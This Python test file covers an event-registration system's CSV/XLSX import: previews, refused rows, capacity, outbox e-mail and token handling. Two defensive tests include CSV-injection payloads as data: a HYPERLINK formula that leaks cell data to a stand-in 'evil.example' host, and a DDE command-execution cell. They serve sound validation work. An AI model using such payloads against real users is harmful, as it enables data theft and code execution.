"""Importing a list into an event (SPEC §11), through the real upload form on both engines: the preview lists every
row's problems and stores nothing, the confirmation imports exactly what was previewed in one transaction, with the
consent basis `imported` (who and when) on the registrant's page, in export.json and in the audit log, and the
confirmations sent through the outbox to a real SMTP server only when the organiser chooses."""

from __future__ import annotations

import datetime as dt
import html

import httpx
import sqlalchemy as sa

from tests.admin.helpers import audit_entries, count
from tests.admin.import_helpers import (
    HEADER,
    NOTHING,
    confirm,
    csv_bytes,
    people,
    stored,
    token_of,
    upload,
    xlsx_bytes,
)
from tests.conftest import csrf_for, login_staff
from tests.webinar.access_helpers import join, load_event
from tests.webinar.question_helpers import EVERY_KIND, add_questions, answers_of
from webinar.clock import now
from webinar.mail.sender import deliver_due
from webinar.privacy.retention import purge_due
from webinar.registration.notifications import compose_queued
from webinar.tables import consent_records, import_uploads, outbox, registrations

ROW = [*HEADER, "Specialitatea", "Secția", "Subiecte de interes", "Doresc certificat", "Ani de experiență",
       "Data nașterii", "Column nobody knows"]  # fmt: skip


async def _statuses(db) -> dict[str, str]:
    async with db.connection() as conn:
        rows = await conn.fetch_all(sa.select(registrations.c.email, registrations.c.status))
    return {r["email"]: r["status"] for r in rows}


async def test_a_semicolon_csv_is_previewed_then_imported_with_its_answers_and_the_basis_imported(
    importer, db, create_event, settings, client
) -> None:
    http, org_id, user = importer
    event_id = await create_event(organisation_id=org_id, language="ro")
    ids = await add_questions(db, event_id, *(q for q in EVERY_KIND if q["kind"] != "textarea"))
    page = await http.get(f"/admin/events/{event_id}")
    assert f"/admin/events/{event_id}/import" in page.text  # linked from the event's page
    content = csv_bytes(
        [
            ROW,
            ["ana.pop@example.org", "Ana", "Pop", "Medic", "Spitalul Județean", "Cardiologie", "Pediatrie",
             "Prevenție; Diagnostic", "da", "12,5", "1980-02-29", "ignored"],
            ["Ion.Ionescu@Example.org", "Ion", "Ionescu", "", "", "Chirurgie", "Cardiologie", "", "", "", "", ""],
        ],
        delimiter=";",
    )  # fmt: skip
    preview = await upload(http, event_id, content)
    assert preview.status_code == 200, preview.text[:3000]
    text = html.unescape(preview.text)
    assert "2 rows read." in text and "Import 2 people" in text
    assert "Column nobody knows" in text and "no field or question of this event has this name" in text
    assert await stored(db) == NOTHING | {"import_uploads": 1}  # nothing imported before the confirmation

    done = await confirm(http, event_id, token_of(preview))
    assert done.status_code == 303
    assert "2 people were imported." in (await http.get(done.headers["location"])).text
    assert await stored(db) == {"registrations": 2, "consent_records": 2, "answers": 6 + 3, "outbox": 0,
                                "import_uploads": 0}  # fmt: skip
    assert await _statuses(db) == {"ana.pop@example.org": "approved", "Ion.Ionescu@Example.org": "approved"}
    async with db.connection() as conn:
        ana = await conn.fetch_one(registrations.select().where(registrations.c.email == "ana.pop@example.org"))
        [basis] = await conn.fetch_all(consent_records.select().where(consent_records.c.registration_id == ana["id"]))
    assert ana["language"] == "ro" and ana["marketing_opt_in"] is False and ana["password_hash"] is None
    assert ana["organisation"] == "Spitalul Județean" and ana["search_text"] == "ana pop ana.pop@example.org"
    assert (basis["purpose"], basis["action"], basis["recorded_by"]) == ("processing", "imported", user.id)
    assert basis["ip"] is None and basis["consent_text_id"] is None
    assert abs(basis["recorded_at"] - now()) < dt.timedelta(minutes=1)
    text_, choice, multi, box, number, date = ids
    assert await answers_of(db, ana["id"]) == {
        text_: "Cardiologie", choice: "Pediatrie", multi: "Diagnostic\nPrevenție", box: "yes", number: "12.5",
        date: "1980-02-29",
    }  # fmt: skip
    [entry] = await audit_entries(db, "registrations.imported")
    assert entry["rows"] == 2 and entry["approved"] == 2 and entry["emails"] is False and entry["refused"] == 0
    assert entry["_actor"] == user.email and entry["_event_id"] == event_id

    registrant = await http.get(f"/admin/events/{event_id}/registrants/{ana['id']}")
    assert f"imported by {user.email}" in registrant.text and 'id="imported-basis"' in registrant.text
    event = await load_event(db, event_id)
    await join(client, settings, event, ana["id"])
    exported = (await client.get(f"/events/{event.slug}/me/export.json")).json()
    [consent] = exported["consents"]
    assert consent["action"] == "imported" and consent["recorded_by"] == user.email and consent["text"] is None
    assert f"ați fost adăugat(ă) dintr-o listă de către organizator ({user.email})" in html.unescape(
        (await client.get(f"/events/{event.slug}/me")).text
    )


async def test_the_preview_lists_every_problem_and_the_confirmation_skips_those_rows(
    importer, db, create_event, create_registration
) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id, capacity=6, field_member_id="required")
    await add_questions(db, event_id, {"kind": "choice", "label_en": "Section", "options": "A\nB"})
    await create_registration(event_id, email="deja@example.org")
    header = ["Email", "First name", "Last name", "Member ID", "Section", "Status", "Marketing opt-in"]
    rows = [
        header,
        ["bun1@example.org", "Ana", "Pop", "CMR-1", "A", "rejected", "yes"],  # 2: fine (status, opt-in ignored)
        ["not-an-address", "Dan", "Pop", "CMR-2", "A", "", ""],  # 3: bad e-mail
        ["BUN1@example.org", "Ana", "Dublura", "CMR-3", "B", "", ""],  # 4: twice in the file
        ["deja@example.org", "Deja", "Înscris", "CMR-4", "A", "", ""],  # 5: already registered
        ["fara.legitimatie@example.org", "Fără", "Număr", "", "A", "", ""],  # 6: required field missing
        ["optiune@example.org", "Opțiune", "Greșită", "CMR-6", "C", "", ""],  # 7: not an option
        ["formula@example.org", '=HYPERLINK("http://evil.example/?"&A1)', "Pop", "CMR-7", "A", "", ""],  # 8
        ["bun2@example.org", "Bogdan", "Ștefănescu", "CMR-8", "B", "", ""],  # 9: fine
        ["telefon@example.org", "Paul", "+40 721 000 000", "-", "", "", ""],  # 10: a sign, not a formula
    ]
    preview = await upload(http, event_id, csv_bytes(rows))
    assert preview.status_code == 200
    text = html.unescape(preview.text)
    assert "Please enter a valid e-mail address" in text
    assert "This address is also on row 2: each person once." in text
    assert "Already registered for this event." in text
    assert "Member ID</strong>: This field is required." in text
    assert "Section</strong>: Please choose one of the options." in text
    assert "This cell looks like a spreadsheet formula" in text
    assert "each person gets the status the event's rules give" in text  # Status: read, not imported
    assert "only the person can agree to marketing e-mails" in text
    assert [f'id="row-{n}"' in text for n in (3, 4, 5, 6, 7, 8)] == [True] * 6
    assert "Import 3 people" in text and "rows with problems, not imported" in text
    assert await count(db, registrations) == 1

    assert (await confirm(http, event_id, token_of(preview))).status_code == 303
    statuses = await _statuses(db)
    assert statuses == {"deja@example.org": "approved", "bun1@example.org": "approved", "bun2@example.org": "approved",
                        "telefon@example.org": "approved"}  # fmt: skip
    async with db.connection() as conn:
        names = {r[0] for r in await conn.fetch_all(sa.select(registrations.c.first_name))}
        rows_ = await conn.fetch_all(sa.select(registrations.c.marketing_opt_in, registrations.c.member_id))
    assert not any(n.startswith("=") for n in names) and all(r[0] is False for r in rows_)
    [entry] = await audit_entries(db, "registrations.imported")
    assert entry["rows"] == 3 and entry["refused"] == 6


async def test_past_the_capacity_rows_join_the_waiting_list_or_are_refused_without_one(
    importer, db, create_event, create_registration
) -> None:
    http, org_id, _user = importer
    with_list = await create_event(organisation_id=org_id, capacity=3, waitlist=True, approval="manual")
    without = await create_event(organisation_id=org_id, capacity=3)
    for event_id in (with_list, without):
        await create_registration(event_id, status="approved")
    preview = await upload(http, with_list, csv_bytes([HEADER, *people(4)]))
    assert 'id="count-pending"><strong>2</strong>' in preview.text
    assert 'id="count-waitlisted"><strong>2</strong>' in preview.text
    assert (await confirm(http, with_list, token_of(preview))).status_code == 303
    statuses = await _statuses(db)
    assert [statuses[f"persoana{i}@example.org"] for i in range(1, 5)] == ["pending", "pending", "waitlisted",
                                                                           "waitlisted"]  # fmt: skip

    preview = await upload(http, without, csv_bytes([HEADER, *people(4, domain="example.com")]))
    assert "The event is full (3 seats) and has no waiting list." in html.unescape(preview.text)
    assert (await confirm(http, without, token_of(preview))).status_code == 303
    async with db.connection() as conn:
        found = await conn.fetch_val(
            sa.select(sa.func.count()).where(registrations.c.event_id == without, registrations.c.status == "approved")
        )
    assert found == 3  # the one already there, and two of the four


async def test_confirmations_go_out_through_the_outbox_to_smtp_only_when_chosen(
    importer, db, create_event, smtp_server, smtp_settings
) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id, capacity=1, waitlist=True, title="Curs EMC")
    preview = await upload(http, event_id, csv_bytes([HEADER, *people(2)]))
    refused = await confirm(http, event_id, token_of(preview), emails=None)
    assert refused.status_code == 422 and "Choose whether the people imported get their e-mail now." in refused.text
    assert await count(db, registrations) == 0
    assert (await confirm(http, event_id, token_of(refused), emails="send")).status_code == 303
    assert await count(db, outbox) == 2
    assert await deliver_due(smtp_settings, db, compose_queued) == 2
    by_address = {m.rcpt_tos[0]: m.message for m in smtp_server.messages}
    approved = by_address["persoana1@example.org"]
    body = approved.get_body(("plain",)).get_content()
    assert "/join/" in body  # the confirmation, with the join link
    assert any(p.get_content_type() == "text/calendar" for p in approved.walk())
    waitlisted = by_address["persoana2@example.org"].get_body(("plain",)).get_content()
    assert "/join/" not in waitlisted and "You are number 1 in line." in waitlisted
    [entry] = await audit_entries(db, "registrations.imported")
    assert entry["emails"] is True and entry["approved"] == 1 and entry["waitlisted"] == 1


async def test_an_xlsx_imports_with_numbers_dates_and_a_formula_refused(importer, db, create_event) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id, field_phone="optional")
    number, date = await add_questions(
        db, event_id, {"kind": "number", "label_en": "Years"}, {"kind": "date", "label_en": "Born"}
    )
    rows = [
        ["Email", "First name", "Last name", "Phone", "Years", "Born"],
        ["ana@example.org", "Ana", "Pop", "+40 721 000 000", 12, dt.datetime(1980, 2, 29)],
        ["ion@example.org", "Ion", "Pop", 721000000, 2.5, dt.date(1975, 5, 1)],
        ["calc@example.org", "=1+2", "Pop", "", "", ""],
    ]
    preview = await upload(http, event_id, xlsx_bytes(rows), filename="lista.xlsx")
    assert preview.status_code == 200, preview.text[:2000]
    assert "Import 2 people" in preview.text and 'id="row-4"' in preview.text
    assert (await confirm(http, event_id, token_of(preview))).status_code == 303
    async with db.connection() as conn:
        found = await conn.fetch_all(sa.select(registrations.c.email, registrations.c.phone, registrations.c.id))
    by_email = {r["email"]: r for r in found}
    assert set(by_email) == {"ana@example.org", "ion@example.org"}
    assert by_email["ana@example.org"]["phone"] == "+40 721 000 000"
    assert await answers_of(db, by_email["ana@example.org"]["id"]) == {number: "12", date: "1980-02-29"}
    assert await answers_of(db, by_email["ion@example.org"]["id"]) == {number: "2.5", date: "1975-05-01"}


async def test_a_registered_export_imports_as_it_is_into_another_event(importer, db, create_event) -> None:
    http, org_id, _user = importer
    source = await create_event(organisation_id=org_id, field_phone="optional")
    target = await create_event(organisation_id=org_id, field_phone="optional")
    rows = [["Email", "First name", "Last name", "Phone"], ["ana@example.org", "Ana", "Pop", "+40 721 000 000"],
            ["ion@example.org", "Ion", "Pop", ""]]  # fmt: skip
    assert (await confirm(http, source, token_of(await upload(http, source, csv_bytes(rows))))).status_code == 303
    exported = await http.get(f"/admin/events/{source}/reports/registered.csv?sep=semicolon")
    assert exported.status_code == 200 and "'+40 721 000 000" in exported.text  # neutralised on the way out
    preview = await upload(http, target, exported.content)
    text = html.unescape(preview.text)
    assert "Import 2 people" in text and "Consent given at" in text  # read, not imported
    assert (await confirm(http, target, token_of(preview))).status_code == 303
    async with db.connection() as conn:
        phones = await conn.fetch_all(
            sa.select(registrations.c.phone).where(registrations.c.event_id == target).order_by(registrations.c.id)
        )
    assert [p[0] for p in phones] == ["+40 721 000 000", None]


async def test_the_confirmation_imports_nothing_when_the_event_changed_since_the_preview(
    importer, db, create_event, create_registration
) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id)
    preview = await upload(http, event_id, csv_bytes([HEADER, *people(3)]))
    token = token_of(preview)
    await create_registration(event_id, email="persoana2@example.org")  # registered meanwhile, by the form
    changed = await confirm(http, event_id, token)
    assert changed.status_code == 409 and "nothing was imported" in changed.text
    assert "Already registered for this event." in html.unescape(changed.text)
    assert await count(db, registrations) == 1 and await count(db, consent_records) == 0
    assert (await confirm(http, event_id, token)).status_code == 303  # the new preview is the one confirmed
    assert await count(db, registrations) == 3


async def test_a_preview_is_confirmed_once_by_its_uploader_for_its_event_only(
    importer, app, db, create_event, create_staff
) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id)
    other_event = await create_event(organisation_id=org_id)
    token = token_of(await upload(http, event_id, csv_bytes([HEADER, *people(2)])))
    colleague = await create_staff("organiser", org_id)
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50005))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as other:
        assert (await login_staff(other, colleague.email)).status_code == 303
        refused = await confirm(other, event_id, token)
        assert refused.status_code == 409 and "no longer kept" in html.unescape(refused.text)
    assert (await confirm(http, other_event, token)).status_code == 409  # bound to its event
    assert (await confirm(http, event_id, token + "x")).status_code == 409  # a tampered token
    assert await count(db, registrations) == 0
    assert (await confirm(http, event_id, token)).status_code == 303
    again = await confirm(http, event_id, token)  # a second click, a replayed POST
    assert again.status_code == 409 and await count(db, registrations) == 2
    assert len(await audit_entries(db, "registrations.imported")) == 1


async def test_discarding_or_an_hour_passing_forgets_the_list(importer, db, create_event, monkeypatch) -> None:
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id)
    token = token_of(await upload(http, event_id, csv_bytes([HEADER, *people(2)])))
    path = f"/admin/events/{event_id}/import"
    data = {"csrf_token": await csrf_for(http, path), "action": "discard", "upload": token}
    assert (await http.post(path, data=data)).status_code == 303
    assert await stored(db) == NOTHING

    token = token_of(await upload(http, event_id, csv_bytes([HEADER, *people(2)])))
    assert await count(db, import_uploads) == 1
    later = now() + dt.timedelta(minutes=61)
    monkeypatch.setattr("webinar.registration.imports.now", lambda: later)
    assert (await confirm(http, event_id, token)).status_code == 409  # an hour later: no longer kept
    await purge_due(db, later)  # the daily retention pass drops what was left
    assert await stored(db) == NOTHING


async def test_an_event_that_is_over_takes_no_import(importer, db, create_event) -> None:
    http, org_id, _user = importer
    start = now() - dt.timedelta(days=2)
    event_id = await create_event(organisation_id=org_id, starts_at=start, ends_at=start + dt.timedelta(hours=2))
    page = await http.get(f"/admin/events/{event_id}/import")
    assert page.status_code == 200 and 'id="closed"' in page.text and 'type="file"' not in page.text
    response = await upload(http, event_id, csv_bytes([HEADER, *people(1)]))
    assert response.status_code == 409 and await stored(db) == NOTHING


def test_the_columns_not_imported_are_the_registered_reports_own() -> None:
    from reports.exporters import RegisteredExporter
    from webinar.registration import fields
    from webinar.registration.importplan import NOT_IMPORTED

    assert RegisteredExporter.header == (*fields.headers("registered"), *NOT_IMPORTED)


def test_formula_cells_are_told_from_signed_numbers_and_phones() -> None:
    from webinar.registration.importplan import looks_like_formula

    formulas = ["=1+2", "@SUM(A1)", "+A1", "-Maria", '=HYPERLINK("x")', "+cmd|' /C calc'!A0"]
    data = ["+40 721 000 000", "-5", "-2,5", "-", "+(40) 721-000", "Ana", "a=b", "ana@example.org"]
    assert [looks_like_formula(v) for v in formulas] == [True] * len(formulas)
    assert [looks_like_formula(v) for v in data] == [False] * len(data)


async def test_purging_the_events_personal_data_drops_a_list_waiting_for_its_confirmation(
    importer, db, create_event
) -> None:
    from webinar.privacy.erasure import Requester
    from webinar.privacy.services import purge_event

    http, org_id, user = importer
    event_id = await create_event(organisation_id=org_id)
    token = token_of(await upload(http, event_id, csv_bytes([HEADER, *people(2)])))
    await purge_event(db, await load_event(db, event_id), Requester("staff", user.email, user.id))
    assert await count(db, import_uploads) == 0
    assert (await confirm(http, event_id, token)).status_code == 409 and await count(db, registrations) == 0


async def test_the_import_speaks_romanian_to_a_romanian_organiser(importer, db, create_event, create_registration):
    from webinar.tables import staff_users

    http, org_id, user = importer
    async with db.transaction() as conn:
        await conn.execute(staff_users.update().where(staff_users.c.id == user.id).values(language="ro"))
    event_id = await create_event(organisation_id=org_id)
    await create_registration(event_id, email="persoana1@example.org")
    page = html.unescape((await http.get(f"/admin/events/{event_id}/import")).text)
    assert "Importă o listă" in page and "Previzualizează importul" in page
    preview = html.unescape((await upload(http, event_id, csv_bytes([HEADER, *people(3)]))).text)
    assert "Importă 2 persoane" in preview and "Este deja înscris(ă) la acest eveniment." in preview
    refused = html.unescape((await upload(http, event_id, b"")).text)
    assert "Fișierul este gol." in refused


async def test_a_row_shifted_by_an_unquoted_delimiter_is_refused_not_imported_askew(importer, db, create_event):
    http, org_id, _user = importer
    event_id = await create_event(organisation_id=org_id)
    content = (
        "\ufeffEmail,First name,Last name,Organisation\r\n"
        "ana@example.org,Ana,Pop,SC Alfa SRL\r\n"
        "ion@example.org,Ion,Pop,SC Beta, SRL\r\n"  # the comma inside the name was not quoted
    ).encode()
    preview = await upload(http, event_id, content)
    text = html.unescape(preview.text)
    assert "This row has more cells than the header has columns" in text and 'id="row-3"' in text
    assert (await confirm(http, event_id, token_of(preview))).status_code == 303
    assert await _statuses(db) == {"ana@example.org": "approved"}
    header = ["Email", "", "First name", "Last name"]
    unnamed = await upload(http, event_id, csv_bytes([header, ["a@b.ro", "x", "A", "B"]]))
    assert "B: <code>—</code> — the column has no header" in html.unescape(unnamed.text)
